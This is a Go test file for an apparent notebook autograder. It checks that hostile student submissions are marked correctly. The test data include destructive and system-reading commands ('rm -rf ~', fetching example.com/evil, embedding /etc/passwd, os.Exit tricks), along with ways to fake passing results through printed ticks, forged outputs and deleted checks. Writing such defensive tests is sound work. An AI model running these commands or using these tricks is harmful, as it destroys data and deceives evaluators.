package mark

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"convbook/kernel/internal/handout"
	"convbook/kernel/internal/notebook"
)

const (
	bothRight  = "right, right"
	bothBlank  = "not written, not written"
	bothFailed = "did not run, did not run"
)

// TestHostileNotebooks marks notebooks whose cells, tags and commands are made to deceive:
// what counts is what the answers declare.
func TestHostileNotebooks(t *testing.T) {
	w := shop(t)
	answer := func(nb *notebook.Notebook) *notebook.Cell { return exercise(t, nb, 0) }
	add := func(source string) func(*notebook.Notebook) {
		return func(nb *notebook.Notebook) {
			nb.Cells = append([]*notebook.Cell{notebook.NewCode("evil", source)}, nb.Cells...)
		}
	}
	for _, c := range []struct {
		name   string
		solved bool
		change func(*notebook.Notebook)
		want   string
		said   string
	}{
		{"skeletons", false, func(*notebook.Notebook) {}, bothBlank, ""},
		{"an init function that ends all", true, add("func init() { os.Exit(0) }"), bothFailed, "status 0"},
		{"an init function that claims", false, add("func init() { fmt.Println(`✓ Pooling: right.`) }"), bothBlank, ""},
		{"a variable that ends all", true, add("var _ = func() int { os.Exit(0); return 0 }()"), bothFailed, "status 0"},
		{"tags", false, func(nb *notebook.Notebook) {
			for _, c := range nb.Cells {
				c.SetMetadata("tags", []any{"exercise", "raises-exception", "skip-execution"})
			}
		}, bothBlank, ""},
		{"%env and Unsetenv", false, add("%env CONVBOOK_EXERCISE=\n%env GOFLAGS=-toolexec=/bin/false\n%%\nos.Unsetenv(\"CONVBOOK_EXERCISE\")"), bothBlank, ""},
		{"%env beside right answers", true, add("%env GOFLAGS=-toolexec=/bin/false\n!go env -w GOFLAGS=-toolexec=/bin/false\n!echo broken >> go.mod\n!*go get example.com/evil"), bothRight, ""},
		{"%%bash and %%writefile", true, add("%%bash\nrm -rf ~"), bothRight, ""},
		{"a checker of its own", false, add("import \"fmt\"\n\ntype checker struct{}\n\nfunc (checker) Pooling(f any) { fmt.Println(\"✓ Pooling: right.\") }\n\nvar exercise checker"), bothBlank, ""},
		{"a channel of its own", true, add("type server struct{}\n\nfunc (server) Serve(map[string]any) {}\n\nvar remote server"), bothFailed, "status 0"},
		{"a main of its own", true, add("func main() { os.Exit(0) }"), bothRight, ""},
		{"deleted checks", true, func(nb *notebook.Notebook) {
			for _, c := range nb.Cells {
				c.Source, _, _ = strings.Cut(c.Source, "\n%%\n")
			}
		}, bothRight, ""},
		{"deleted answers", true, func(nb *notebook.Notebook) {
			nb.Cells = slices.DeleteFunc(nb.Cells, func(c *notebook.Cell) bool { return c.HasTag("exercise") })
		}, bothBlank, "the hand-in has no such exercise"},
		{"no exercise, and printed ticks", false, func(nb *notebook.Notebook) {
			nb.Cells = slices.DeleteFunc(nb.Cells, func(c *notebook.Cell) bool { return c.HasTag("exercise") })
			nb.Cells[1].Kind, nb.Cells[1].Source = "code", "%%\nfmt.Println(\"✓ Pooling: right.\")"
		}, bothBlank, ""},
		{"outputs that claim", false, func(nb *notebook.Notebook) {
			answer(nb).Outputs = []notebook.Output{{"output_type": "stream", "name": "stdout", "text": "✓ Pooling: right. All 315 cases agree."}}
		}, bothBlank, ""},
		{"C", true, add("// #cgo LDFLAGS: -Wl,-evil\n// #include <stdlib.h>\nimport \"C\"\n\nvar _ = C.abs(1)"), bothFailed, `"C" cannot be imported`},
		{"linkname", true, add("import _ \"unsafe\"\n\n//go:linkname evil runtime.exit\nfunc evil(int32)\n\nvar _ = func() int { evil(0); return 0 }()"), bothFailed, "missing function body"},
		{"embed", true, add("import _ \"embed\"\n\n//go:embed /etc/passwd\nvar secret string\n\n//go:generate touch /tmp/generated"), bothRight, ""},
		{"an internal package", true, add("import \"convbook/pkg/internal/engine\"\n\nvar _ engine.Plan"), bothFailed, "cannot be imported"},
		{"a package from the net", true, add("import \"example.com/evil\"\n\nvar _ = evil.X"), bothFailed, "cannot be imported"},
		{"an array for the compiler", true, add("var huge [1 << 40]byte\n\nvar _ = huge[1]"), bothFailed, ""},
		{"types without end", true, add("type node[T any] struct{ next *node[node[T]] }\n\nvar _ node[int]"), bothFailed, ""},
		{"a line from elsewhere", true, add("//line /etc/passwd:1\nvar _ int = \"x\""), bothFailed, "cannot use"},
		{"a cell that is not Go", true, add("this is no Go ("), bothRight, ""},
		{"another cell that does not compile", true, add("func broken() int { return \"x\" }"), bothRight, ""},
	} {
		nb := w.original(t, "04_pooling")
		if c.solved {
			nb = w.solved(t, "04_pooling")
		}
		c.change(nb)
		r := w.mark(t, nb)
		reasons := ""
		for _, v := range r.Verdicts {
			reasons += v.Reason + "\n"
		}
		if outcomes(r) != c.want || !strings.Contains(reasons, c.said) {
			t.Errorf("%s: %s, want %s because of %q\n%s", c.name, outcomes(r), c.want, c.said, reasons)
		}
		t.Logf("%-36s %-24s %s", c.name, outcomes(r), firstLine(reasons))
	}
}

// TestCoursesOfOnesOwn refuses what could not be marked before anything is.
func TestCoursesOfOnesOwn(t *testing.T) {
	for source, want := range map[string]string{
		"var n = 1\n%%\nexercise.Number(\"n\", n)\nexercise.Number(\"m\", n)":                    "",
		"var n = 1\n%%\nfor range 2 {\n\texercise.Number(\"n\", n)\n}":                           "cannot stand alone",
		"var n = 1\n%%\nif n > 0 {\n\texercise.Number(\"n\", n)\n\texercise.Number(\"m\", n)\n}": "cannot stand alone",
		"var n = 1\n%%\nn++": "there is no check",
	} {
		c := notebook.NewCode("e", source)
		c.SetMetadata("tags", []any{"exercise"})
		_, err := newNotebook("own", &notebook.Notebook{Cells: []*notebook.Cell{c}})
		if (err == nil) != (want == "") || err != nil && !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v, want %q", source, err, want)
		}
	}
}

// TestWhatIsNoHandIn marks files that are something else, or too much.
func TestWhatIsNoHandIn(t *testing.T) {
	w := shop(t)
	foreign := w.original(t, "04_pooling")
	for i, c := range foreign.Cells {
		foreign.Cells[i] = notebook.NewCode("other"+string(rune('a'+i)), c.Source)
	}
	other, err := foreign.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]struct {
		text []byte
		want string
	}{
		"nothing":            {nil, "empty"},
		"a page":             {[]byte("<html>"), ""},
		"half of a notebook": {other[:len(other)/2], ""},
		"very deep":          {[]byte(strings.Repeat("[", 1<<20)), ""},
		"zeros":              {bytes.Repeat([]byte{0}, 1<<20), ""},
		"another course's":   {other, "no cell of it is from a notebook of the course"},
	} {
		r := w.markText(t, c.text)
		if outcomes(r) != "did not run" || !strings.Contains(r.Verdicts[0].Reason, c.want) {
			t.Errorf("%s: %+v", name, r.Verdicts)
		}
	}
}

// TestCodeThatKeepsBusy refuses code that would keep the reader busy, soon.
func TestCodeThatKeepsBusy(t *testing.T) {
	w := shop(t)
	var chain strings.Builder
	for i := range 5000 {
		fmt.Fprintf(&chain, "func f%04d() { f%04d() }\n", 5000-i, 4999-i)
	}
	for name, source := range map[string]string{
		"much code":       "// " + strings.Repeat("x", 300<<10),
		"selectors":       "var _ = a" + strings.Repeat(".b", 100_000),
		"brackets":        "var _ = " + strings.Repeat("(", 50_000),
		"functions":       "func f() {" + strings.Repeat("func(){", 20_000),
		"sums":            "var _ = 1" + strings.Repeat("+1", 100_000),
		"signs":           "var _ = " + strings.Repeat("-", 100_000) + "1",
		"stars":           "var _ " + strings.Repeat("*", 100_000) + "int",
		"a chain of f":    chain.String(),
		"else if":         "func f() { if a {}" + strings.Repeat(" else if a {}", 15_000) + "}",
		"channels":        "var _ " + strings.Repeat("chan ", 40_000) + "int",
		"a list of lists": "var _ = []int{" + strings.Repeat("{", 100_000),
	} {
		nb := w.solved(t, "04_pooling")
		nb.Cells = append(nb.Cells, notebook.NewCode("evil", source))
		began := time.Now()
		r := w.mark(t, nb)
		if took := time.Since(began); took > 20*time.Second {
			t.Errorf("%s: %v", name, took)
		}
		t.Logf("%-16s %5.2f s %s %s", name, time.Since(began).Seconds(), outcomes(r), firstLine(r.Verdicts[0].Reason))
	}
}

// TestHandedOut marks what was handed out, by this version and by another.
func TestHandedOut(t *testing.T) {
	w := shop(t)
	for _, version := range []string{"9.9.9", "1.0.0"} {
		digest := ""
		for _, n := range w.course.Notebooks {
			if n.Name == "04_pooling" {
				digest = n.digest
			}
		}
		if version == "1.0.0" {
			digest = "of another state"
		}
		nb, err := handout.Students(w.original(t, "04_pooling"), handout.Origin{Version: version, Notebook: "04_pooling", Digest: digest})
		if err != nil {
			t.Fatal(err)
		}
		solved, _, _ := strings.Cut(exercise(t, w.solved(t, "04_pooling"), 0).Source, "\n%%\n")
		exercise(t, nb, 0).Source = solved
		r := w.mark(t, nb)
		if outcomes(r) != "right, not written" || (r.Older == "1.0.0") != (version == "1.0.0") {
			t.Errorf("handed out by %s: %s, of the version %q", version, outcomes(r), r.Older)
		}
	}
}
